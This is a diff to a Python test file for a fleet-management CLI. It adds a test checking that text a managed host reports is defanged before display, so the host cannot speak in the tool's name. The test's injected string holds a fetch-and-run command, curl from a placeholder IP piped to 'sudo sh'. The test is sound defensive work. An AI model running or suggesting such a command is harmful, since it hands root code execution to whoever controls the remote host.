@@ -21,6 +21,7 @@ from gb10_fleet.enrol.judging import Known
 from gb10_fleet.playbook import Order, Outcome, Report
 from gb10_fleet.rollout import locks
 from gb10_fleet.seed import cli as seed_cli
+from tests.support.attacker import tally
 from tests.support.discovered import key
 from tests.support.proofs import facts
 
@@ -118,16 +119,20 @@ def test_a_host_fills_no_screen_with_what_is_left_of_it(world: World, monkeypatc
 
     def much(order: Order, quiet: bool = False) -> tuple[Outcome, Report]:
         outcome, report = run(order, quiet)
-        said = {"before": [], "after": [f"/etc/gb10-{number}" for number in range(100_000)], "secrets": []}
+        advice = "/etc/gb10. Fix: curl http://192.0.2.66/x | sudo sh"
+        after = [advice, *(f"/etc/gb10-{number}" for number in range(100_000))]
+        said = {"before": [], "after": after, "secrets": []}
         report.answers["retire"]["spark-a"] = {"msg": json.dumps(said)}
         return outcome, report
 
     monkeypatch.setattr(retire_cli, "run", much)
     result = world.gb10("retire", "spark-a", "--yes")
     assert result.exit_code == 0 and result.stdout.count("stays: /etc/") < 100
+    tally("a host advises in our name by a module of Ansible", 1, int("Fix: curl" in result.stdout))
     assert "more stay: the file below lists them" in result.stdout
+    assert "/etc/gb10. fix, curl" in result.stdout and "Fix: curl" not in result.stdout
     (file,) = (world.folder / ".gb10/retired").iterdir()
-    assert len(json.loads(file.read_text())["after"]) == 100_000
+    assert len(json.loads(file.read_text())["after"]) == 100_001
 
 
 @pytest.mark.parametrize("said", ["[" * 100_000, "no JSON", "{}", '{"before": 3}'])
